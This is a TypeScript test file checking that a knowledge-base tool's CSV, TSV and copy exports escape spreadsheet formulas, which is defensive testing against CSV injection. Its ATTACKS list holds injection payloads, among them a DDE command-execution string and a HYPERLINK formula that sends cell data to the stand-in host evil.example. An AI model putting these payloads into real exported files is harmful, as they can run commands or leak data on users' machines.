/** CSV injection: values of a KB that a spreadsheet would run as formulas. */
import { describe, expect, it } from 'vitest';
import { exportFormats } from '../../../client/shared/export-formats';
import { toTabSeparated } from '../../../client/shared/table-text';
import type { AnswerRow, Run } from '../../../server/src/protocol/index';
import { entity, integer, named, text, typed } from '../../webview/terms';

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '--1',
  '-1-2',
];
const HARMLESS = ['-5', '+5', '-5.25', '-1e-9', '.5', 'a=b', ' =1', '1-2', '', "'=1"];

const exportRow = (label: string, row: AnswerRow, nameOf = named({})): string => {
  const format = exportFormats().find((one) => one.label === label);
  const columns = row.map((_, at) => `c${at}`);
  const places = row.map((_, at) => at);
  return format?.write({ run: {} as Run, columns, places, rows: [row], nameOf, part: false }) ?? '';
};

/** Returns the cells that a spreadsheet reads from the second line of a file. */
function cellsIn(file: string, separator: string): readonly string[] {
  const body = file.slice(file.indexOf('\n') + 1);
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(${separator}|\\r?\\n|$)`, 'gy');
  const cells: string[] = [];
  for (const [, quoted, plain = '', end] of body.matchAll(cell)) {
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== separator) break;
  }
  return cells;
}

const isFormula = (cell: string): boolean => /^[=+\-@\s＝＋－＠]/.test(cell) && Number.isNaN(Number(cell));

describe.each(['CSV', 'CSV with Names'])('export as %s', (label) => {
  it.each(ATTACKS)('a CSV export escapes a formula: %j', (attack) => {
    const [cell = ''] = cellsIn(exportRow(label, [text(attack), text('end')]), ',');
    expect(isFormula(cell)).toBe(false);
    expect(cell).toBe(`'${attack}`);
  });

  it.each(HARMLESS)('a CSV export keeps a value that is not a formula: %j', (value) => {
    expect(cellsIn(exportRow(label, [text(value), text('end')]), ',')).toEqual([value, 'end']);
  });

  it('a CSV export quotes semicolons, which separate cells in some locales', () => {
    expect(exportRow(label, [text('a;=1+1'), text('b')])).toContain('"a;=1+1"');
  });
});

describe('other export formats', () => {
  it('a CSV export escapes formulas in entity names', () => {
    const [, name] = cellsIn(exportRow('CSV with Names', [entity('m.1')], named({ 'm.1': '=1+1' })), ',');
    expect(name).toBe("'=1+1");
  });

  it('a TSV export escapes formulas in literals and keeps numbers', () => {
    const date = typed('-0044-03-15', 'date');
    expect(exportRow('TSV', [text('=1+1'), integer(-5), date]).split('\n')[1]).toBe(
      `"'=1+1"\t-5\t"'-0044-03-15"^^<http://www.w3.org/2001/XMLSchema#date>`,
    );
  });

  it.each(['Data as CSV', 'Data as TSV'])('an export of "%s" keeps every value unchanged', (label) => {
    for (const attack of ATTACKS.slice(2, 5)) {
      const file = exportRow(label, [text(attack)]);
      expect(file).toContain(attack);
      expect(file).not.toContain(`'${attack}`);
    }
  });
});

describe('copied cells', () => {
  it('copying escapes formulas unless a single cell is copied', () => {
    const row = [text('=1+1'), integer(-5)];
    const copied = (places: readonly number[]): string =>
      toTabSeparated({ columns: ['a', 'b'], places, rows: [row] }, { headers: false });
    expect(copied([0, 1])).toBe("'=1+1\t-5");
    expect(copied([0])).toBe('=1+1');
  });
});
